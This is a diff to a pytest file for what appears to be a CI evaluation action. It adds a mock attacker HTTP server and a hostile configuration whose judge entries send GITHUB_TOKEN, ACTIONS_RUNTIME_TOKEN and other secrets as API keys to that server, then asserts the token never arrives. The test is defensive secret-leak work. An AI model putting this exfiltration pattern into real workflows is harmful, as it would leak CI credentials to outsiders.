@@ -8,10 +8,12 @@ import shutil
 import subprocess
 import sys
 import tempfile
+import threading
 import time
 from collections.abc import Iterator
 from contextlib import suppress
 from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -160,8 +162,29 @@ def everyones_python() -> str:
 
 
 @pytest.fixture(scope="module")
-def hostile_job(open_folder: Path, everyones_python: str) -> Job:
-    """The action on a pull request whose code tries to get at everything."""
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """A server of the attacker's; every request that it gets, headers and all."""
+    seen: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
+            seen.append(f"{self.headers}{body!r}")
+            self.send_error(400)
+
+        def log_message(self, *given: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", seen
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def hostile_job(open_folder: Path, everyones_python: str, listener: tuple[str, list[str]]) -> Job:
+    """The action on a pull request whose code, and whose configuration, try to get at everything."""
     top = open_folder
     workspace, temp = top / "workspace", top / "temp"
     commands, workflow = temp / "_runner_file_commands", temp / "_github_workflow"
@@ -175,6 +198,7 @@ def hostile_job(open_folder: Path, everyones_python: str) -> Job:
     files = {
         "app.py": HOSTILE,
         "oloproof.yaml": json.dumps(CONFIG),
+        "judged.yaml": json.dumps({**CONFIG, "evaluators": [*CONFIG["evaluators"], *_judges(listener[0])]}),
         "cases.jsonl": "".join(json.dumps(case) + "\n" for case in CASES),
         "places.json": json.dumps({**places, "commands": str(commands)}),
         "release.yaml": "{version: 1, rules: [{id: r, metric: correct, kind: observed_count, max_failures: 9}]}",
@@ -212,6 +236,7 @@ def hostile_job(open_folder: Path, everyones_python: str) -> Job:
         "TMPDIR": "/tmp",
         "GITHUB_TOKEN": TOKEN,
         "INPUT_GITHUB-TOKEN": TOKEN,
+        "INPUT_CONFIG": "oloproof.yaml\njudged.yaml",
         "ACTIONS_RUNTIME_TOKEN": TOKEN,
         "THE_SAME_UNDER_ANOTHER_NAME": TOKEN,
         "MODEL_KEY": "the user's own",
@@ -230,6 +255,18 @@ def hostile_job(open_folder: Path, everyones_python: str) -> Job:
     record = workspace / "attempts.json"
     assert record.exists(), done.stdout
     return Job(workspace, named["output"], guarded, before, done.stdout, json.loads(record.read_text()))
+
+
+def _judges(url: str) -> list[dict[str, Any]]:
+    """Judges that are to be asked under the bot's secrets as keys, at an address of the attacker's; one needs none."""
+    judge = {
+        "type": "rubric_judge",
+        "provider": "openai_compatible",
+        "model": "m",
+        "rubric_text": "Is it blue?",
+    }
+    named = {"a": "GITHUB_TOKEN", "b": "INPUT_GITHUB-TOKEN", "c": "ACTIONS_RUNTIME_TOKEN", "d": "MODEL_KEY"}
+    return [{**judge, "base_url": url, "criterion": n, "api_key_env": name} for n, name in named.items()]
 
 
 def _git(folder: Path, *arguments: str) -> str:
@@ -265,6 +302,14 @@ def test_its_environment_holds_neither_token_nor_input_nor_runner_file(hostile_j
     assert seen["MODEL_KEY"] == "the user's own"
 
 
+def test_a_configuration_cannot_have_the_token_sent_to_an_address_of_its_own(
+    hostile_job: Job, listener: tuple[str, list[str]]
+) -> None:
+    _, seen = listener
+    assert any("the user's own" in request for request in seen), hostile_job.printed
+    assert [request for request in seen if TOKEN in request] == []
+
+
 def test_its_home_and_temporary_folder_are_its_own(hostile_job: Job) -> None:
     seen = hostile_job.attempts["environment"]
     assert seen["HOME"].startswith("/tmp/oloproof-")
@@ -273,7 +318,7 @@ def test_its_home_and_temporary_folder_are_its_own(hostile_job: Job) -> None:
 
 def test_the_run_is_evaluated_all_the_same(hostile_job: Job) -> None:
     assert "oloproof.yaml: ALLOW" in hostile_job.printed, hostile_job.printed
-    assert "ALLOW" in hostile_job.output.read_text()
+    assert hostile_job.output.read_text().startswith("gate<<")
 
 
 def test_what_it_leaves_running_is_ended_before_the_report_is_written(hostile_job: Job) -> None:
